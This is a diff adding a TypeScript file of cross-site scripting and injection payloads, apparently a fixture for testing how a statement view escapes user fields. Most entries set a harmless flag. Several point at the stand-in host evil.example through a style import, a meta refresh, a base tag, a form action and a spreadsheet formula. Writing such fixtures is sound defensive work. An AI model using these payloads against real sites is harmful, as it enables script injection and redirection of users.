@@ -1,0 +1,23 @@
+/** What attackers write, in each field of a statement. */
+export const PAYLOADS = [
+  `<script>window.hacked=1</script>`,
+  `"><img src=x onerror="window.hacked=1">`,
+  `'><svg onload=window.hacked=1>`,
+  `</script><script>window.hacked=1</script>`,
+  `</textarea></title><iframe srcdoc="<script>parent.hacked=1</script>">`,
+  `javascript:window.hacked=1`,
+  `<a href="javascript:window.hacked=1">x</a>`,
+  "${window.hacked=1}",
+  `{{constructor.constructor('window.hacked=1')()}}`,
+  `<!--<script>window.hacked=1</script>-->`,
+  `&lt;script&gt;window.hacked=1&lt;/script&gt;`,
+  `\u2028window.hacked=1//`,
+  `\u202Egnp.exe<b onmouseover=window.hacked=1>`,
+  `<style>@import url("https://evil.example/x.css");</style>`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
+  `<base href="https://evil.example/">`,
+  `<form action="https://evil.example"><button>x</button></form>`,
+  `=HYPERLINK("https://evil.example")`,
+  `__proto__`,
+  `<details open ontoggle=window.hacked=1>`,
+];
